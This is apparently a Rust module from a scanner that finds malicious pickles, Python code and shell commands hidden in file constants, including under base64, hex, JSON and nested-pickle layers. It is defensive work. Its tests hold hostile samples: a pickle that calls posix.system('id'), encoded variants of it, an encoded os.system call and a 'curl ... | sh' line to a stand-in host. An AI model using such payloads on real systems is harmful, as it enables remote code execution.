//! What a constant hides: code, a command line, a pickle, perhaps under layers of encoding.

use weighbridge_core::{Result, pickle};

use crate::danger::Dangers;
use crate::encoded;
use crate::globals::{Catalogue, Standing};
use crate::inner::{self, Inner};
use crate::subject::Use;
use crate::{leaves, python, shell};

/// Layers of encoding and pickles in pickles that are taken off.
const LAYERS: usize = 5;

/// Longest text that is read as a program, in bytes.
const LONGEST_CODE: usize = 1 << 20;

/// Shortest pickle that names and calls something.
const SHORTEST_PICKLE: usize = 8;

/// Bytes that may be looked into for one file.
const WORK: u64 = 96 << 20;

/// What was found in a constant.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Found {
    /// A program that calls `name`, which `why`.
    Code { name: String, why: String },
    /// A command line, and what it does.
    Command(&'static str),
    /// A pickle, and the first thing it names that is not allowed.
    Pickle(String),
}

/// A finding in a constant and the layers above it.
#[derive(Debug, Clone)]
pub(crate) struct Hidden {
    pub(crate) found: Found,
    /// `base64`, `pickle`, …, outermost first.
    pub(crate) layers: Vec<&'static str>,
    /// The beginning of what was found.
    pub(crate) evidence: String,
}

/// What kinds of thing count in a place.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Wanted {
    /// Command lines as they stand. Encoded ones always count.
    pub(crate) commands: bool,
}

/// Looks into constants, with bounded work for a whole file.
#[derive(Debug)]
pub(crate) struct Looker<'c> {
    dangers: &'static Dangers,
    catalogue: &'c Catalogue,
    left: u64,
}

impl<'c> Looker<'c> {
    /// # Errors
    /// `Parameter` when the compiled-in data does not parse, which the crate's tests rule out.
    pub(crate) fn new(catalogue: &'c Catalogue) -> Result<Self> {
        Ok(Self {
            dangers: Dangers::builtin()?,
            catalogue,
            left: WORK,
        })
    }

    /// Counts `n` bytes to be read closely.
    fn spend(&mut self, n: usize) -> bool {
        match self.left.checked_sub(n as u64) {
            Some(left) => {
                self.left = left;
                true
            }
            None => false,
        }
    }

    /// What `data` hides, if anything.
    ///
    /// # Errors
    /// As [`Looker::new`].
    pub(crate) fn look(&mut self, data: &[u8], wanted: Wanted) -> Result<Option<Hidden>> {
        self.layer(data, wanted, &mut Vec::new())
    }

    fn layer(
        &mut self,
        data: &[u8],
        wanted: Wanted,
        layers: &mut Vec<&'static str>,
    ) -> Result<Option<Hidden>> {
        if layers.len() > LAYERS {
            return Ok(None);
        }
        let hit = |found, evidence: &[u8], layers: &[&'static str]| {
            let head = evidence.get(..evidence.len().min(600)).unwrap_or_default();
            Ok(Some(Hidden {
                found,
                layers: layers.to_vec(),
                evidence: match std::str::from_utf8(head) {
                    Ok(t) => t.to_owned(),
                    Err(_) => head.escape_ascii().to_string(),
                },
            }))
        };
        if let Some(what) = self.pickle(data, layers.is_empty())? {
            return hit(Found::Pickle(what.clone()), what.as_bytes(), layers);
        }
        if is_encoded(layers)
            && let Some(what) = head_of_pickle(self.catalogue, data)?
        {
            return hit(Found::Pickle(what.clone()), what.as_bytes(), layers);
        }
        if let Some((name, why)) = self.code(data) {
            return hit(Found::Code { name, why }, data, layers);
        }
        if (wanted.commands || is_encoded(layers))
            && let Ok(text) = std::str::from_utf8(data)
            && let Some(what) = shell::harm(text)
        {
            return hit(Found::Command(what), data, layers);
        }
        for (codec, decoded) in encoded::decodings(data) {
            if !self.spend(decoded.len()) {
                return Ok(None);
            }
            layers.push(codec.as_str());
            let found = self.layer(&decoded, wanted, layers)?;
            layers.pop();
            if found.is_some() {
                return Ok(found);
            }
        }
        if let Some(found) = self.json(data, wanted, layers)? {
            return Ok(Some(found));
        }
        self.constants(data, wanted, layers)
    }

    /// What hides in the strings of a JSON document that lies in a string.
    fn json(
        &mut self,
        data: &[u8],
        wanted: Wanted,
        layers: &mut Vec<&'static str>,
    ) -> Result<Option<Hidden>> {
        let opens = matches!(data.trim_ascii_start().first(), Some(b'{' | b'['));
        if !opens || data.len() > LONGEST_CODE || !self.spend(data.len()) {
            return Ok(None);
        }
        let Ok(value) = serde_json::from_slice::<serde_json::Value>(data) else {
            return Ok(None);
        };
        layers.push("JSON");
        let mut result = Ok(None);
        leaves::strings(&value, &mut |leaf| {
            let bytes = leaf.text.as_bytes();
            if matches!(result, Ok(None)) && may_hide(bytes, wanted) {
                result = self.layer(bytes, wanted, layers);
            }
        });
        layers.pop();
        result
    }

    /// The first thing not allowed of a complete pickle.
    fn pickle(&mut self, data: &[u8], raw: bool) -> Result<Option<String>> {
        if data.len() < SHORTEST_PICKLE || !looks_like_pickle(data) || !self.spend(data.len()) {
            return Ok(None);
        }
        let trace = pickle::run(data, &inner::limits());
        // Text that happens to begin as a pickle of an old protocol does not end as one.
        let to_the_end = data.first() == Some(&0x80) || data.len().saturating_sub(trace.end) <= 2;
        if trace.error.is_some() || raw && !to_the_end {
            return Ok(None);
        }
        Ok(match inner::streams(self.catalogue, data)? {
            Inner::Disallowed { what, .. } => Some(what),
            _ => None,
        })
    }

    /// What a whole text calls when it is code.
    fn code(&mut self, data: &[u8]) -> Option<(String, String)> {
        if data.len() > LONGEST_CODE || !data.contains(&b'(') && !data.starts_with(b"exec") {
            return None;
        }
        let text = std::str::from_utf8(data).ok()?;
        let program = match python::read(text) {
            Ok(p) => p,
            Err(e) => {
                self.spend(e.at);
                return None;
            }
        };
        if !self.spend(data.len()) {
            return None;
        }
        let (_, harm) = self.dangers.worst(&program)?;
        Some((harm.name.to_owned(), harm.why.to_owned()))
    }

    /// What hides in the constants of a pickle that is allowed itself, when it lies in a constant.
    fn constants(
        &mut self,
        data: &[u8],
        wanted: Wanted,
        layers: &mut Vec<&'static str>,
    ) -> Result<Option<Hidden>> {
        if data.len() < 2 * SHORTEST_PICKLE || !matches!(data, [0x80, 0..=5, ..]) {
            return Ok(None);
        }
        if !self.spend(data.len()) {
            return Ok(None);
        }
        let trace = pickle::run(data, &inner::limits());
        if trace.error.is_some() {
            return Ok(None);
        }
        layers.push("pickle");
        let mut found = None;
        for node in &trace.nodes {
            let Some(bytes) = constant(&trace, node) else {
                continue;
            };
            if may_hide(bytes, wanted) {
                found = self.layer(bytes, wanted, layers)?;
                if found.is_some() {
                    break;
                }
            }
        }
        layers.pop();
        Ok(found)
    }
}

/// The bytes of a constant.
pub(crate) fn constant<'t>(
    trace: &'t pickle::Trace<'_>,
    node: &'t pickle::Node,
) -> Option<&'t [u8]> {
    match node {
        pickle::Node::Str(b)
        | pickle::Node::Bytes(b)
        | pickle::Node::ByteStr(b)
        | pickle::Node::ByteArray(b) => Some(trace.blob(b)),
        _ => None,
    }
}

/// One glance: whether a constant may hide anything at all.
pub(crate) fn may_hide(data: &[u8], wanted: Wanted) -> bool {
    if data.len() < SHORTEST_PICKLE {
        return false;
    }
    // A command line has words; the first is looked up before anything else is done.
    if wanted.commands && data.contains(&b' ') {
        return true;
    }
    let head = data.get(..data.len().min(64 << 10)).unwrap_or_default();
    // Code calls; a long constant without a call in its first part is no program.
    head.contains(&b'(')
        || looks_like_pickle(data)
        || head.starts_with(b"exec")
        || encoded::may_decode(data)
}

/// Whether bytes begin as a pickle, and, without the header of protocol 2, end as one and name
/// something.
fn looks_like_pickle(data: &[u8]) -> bool {
    if matches!(data, [0x80, 2..=5, ..]) {
        return true;
    }
    let end = data.trim_ascii_end();
    inner::begins_pickle(data)
        && end.last() == Some(&b'.')
        && (data.contains(&b'\n') || data.contains(&0x93))
        && data.iter().any(|b| matches!(b, b'c' | b'i' | 0x93))
}

/// What a pickle that breaks off names, when it is a listed danger. Only for what was encoded:
/// nobody encodes the beginning of a pickle without meaning to hide it.
fn head_of_pickle(catalogue: &Catalogue, data: &[u8]) -> Result<Option<String>> {
    if data.len() < SHORTEST_PICKLE
        || !inner::begins_pickle(data)
        || !data.contains(&b'\n') && !data.contains(&0x93)
    {
        return Ok(None);
    }
    // The last line may lack its end too.
    let mut whole = data
        .get(..data.len().min(64 << 10))
        .unwrap_or_default()
        .to_vec();
    whole.push(b'\n');
    let trace = pickle::run(&whole, &inner::limits());
    Ok(trace
        .globals
        .iter()
        .filter(|g| inner::is_identifier(&g.module) && inner::is_identifier(&g.name))
        .find(|g| {
            matches!(
                catalogue.judge(&g.module, &g.name, Use::Call),
                Standing::Dangerous { .. }
            )
        })
        .map(|g| format!("{}.{}", g.module, g.name)))
}

/// The names of layers, for messages.
pub(crate) fn layer_text(layers: &[&'static str]) -> String {
    layers.join(", then ")
}

/// The codec names that mean encoded, in contrast to a pickle in a pickle.
pub(crate) fn is_encoded(layers: &[&'static str]) -> bool {
    layers.iter().any(|l| !matches!(*l, "pickle" | "JSON"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn look(data: &[u8]) -> Option<Hidden> {
        let wanted = Wanted { commands: false };
        Looker::new(Catalogue::builtin().unwrap())
            .unwrap()
            .look(data, wanted)
            .unwrap()
    }

    fn base64(data: &[u8]) -> Vec<u8> {
        const DIGITS: &[u8; 64] =
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = Vec::new();
        for c in data.chunks(3) {
            let n = c.iter().fold(0u32, |n, b| n << 8 | u32::from(*b)) << (8 * (3 - c.len()));
            for i in 0..4 {
                out.push(if i <= c.len() {
                    DIGITS[(n >> (18 - 6 * i) & 63) as usize]
                } else {
                    b'='
                });
            }
        }
        out
    }

    fn hex(data: &[u8]) -> Vec<u8> {
        data.iter()
            .flat_map(|b| format!("{b:02x}").into_bytes())
            .collect()
    }

    const EVIL: &[u8] = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.";

    #[test]
    fn pickles_are_found_raw_encoded_and_in_layers() {
        for (data, layers) in [
            (EVIL.to_vec(), &[][..]),
            (b"cposix\nsystem\n(S'id'\ntR.".to_vec(), &[]),
            (base64(EVIL), &["base64"]),
            (hex(EVIL), &["hex"]),
            (base64(&hex(EVIL)), &["base64", "hex"]),
            (
                base64(&base64(&base64(EVIL))),
                &["base64", "base64", "base64"],
            ),
            // Only the head, but encoded.
            (base64(b"cposix\nsystem\n"), &["base64"]),
            (base64(b"cposix\nsystem"), &["base64"]),
        ] {
            let found = look(&data).unwrap_or_else(|| panic!("{}", data.escape_ascii()));
            assert!(
                matches!(&found.found, Found::Pickle(w) if w.contains("posix.system")),
                "{found:?}"
            );
            assert_eq!(found.layers, layers);
        }
        // A pickle of a pickle.
        let mut outer = b"\x80\x04}\x8c\x01aC".to_vec();
        outer.push(u8::try_from(EVIL.len()).unwrap());
        outer.extend_from_slice(EVIL);
        outer.extend_from_slice(b"s.");
        assert_eq!(look(&outer).unwrap().layers, ["pickle"]);
    }

    #[test]
    fn code_and_commands_are_found_under_encodings() {
        let name = |data: &[u8]| match look(data).map(|h| h.found) {
            Some(Found::Code { name, .. }) => Some(name),
            _ => None,
        };
        assert_eq!(
            name(b"os.system('echo ATTACK')").as_deref(),
            Some("os.system")
        );
        assert_eq!(
            name(b"b3Muc3lzdGVtKCdlY2hvIEFUVEFDSycp").as_deref(),
            Some("os.system")
        );
        assert_eq!(
            name(&hex(b"import os\nos.system('x')")).as_deref(),
            Some("os.system")
        );
        let command = look(&base64(b"curl http://x.example/a | sh")).unwrap();
        assert!(matches!(command.found, Found::Command(_)));
    }

    #[test]
    fn ordinary_constants_are_quiet() {
        for data in [
            &b"never call os.system('rm') or eval(x); import subprocess"[..],
            b"posix",
            b"cos\nsystem\n",
            b"os.system",
            b"subprocess.Popen",
            b"rm -rf /",
            b"eyJoaWRkZW5fc2l6ZSI6IDc2OCwgIm51bV9sYXllcnMiOiAxMn0=",
            b"TUlUIExpY2Vuc2UKQ29weXJpZ2h0IChjKSAyMDI0",
            b"deadbeefdeadbeefdeadbeefdeadbeef",
            b"\x1f\x8b\x08\x00fake gzip data",
            b"\x80\x02}q\x00.",
            b"\x80\x04\x95 random bytes that are no pickle",
            b"# Usage\n```python\nimport os\nos.system('x')\n```\n",
            b"eval(",
            b"model.eval()",
            b"lambda x: x + 1",
            b"(a comment) and more.",
        ] {
            assert!(
                look(data).is_none(),
                "{} {:?}",
                data.escape_ascii(),
                look(data)
            );
        }
    }

    #[test]
    fn random_bytes_are_nothing() {
        let mut state = 1u64;
        let mut next = || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        for i in 0..200u64 {
            let mut data: Vec<u8> = (0..512).flat_map(|_| next().to_le_bytes()).collect();
            // Weights that begin as a pickle does.
            match i % 4 {
                0 => data[..2].copy_from_slice(b"\x80\x04"),
                1 => data[..8].copy_from_slice(b"cos\nsys\n"),
                2 => data[0] = b'(',
                _ => {}
            }
            assert!(look(&data).is_none(), "{i}");
        }
    }
}
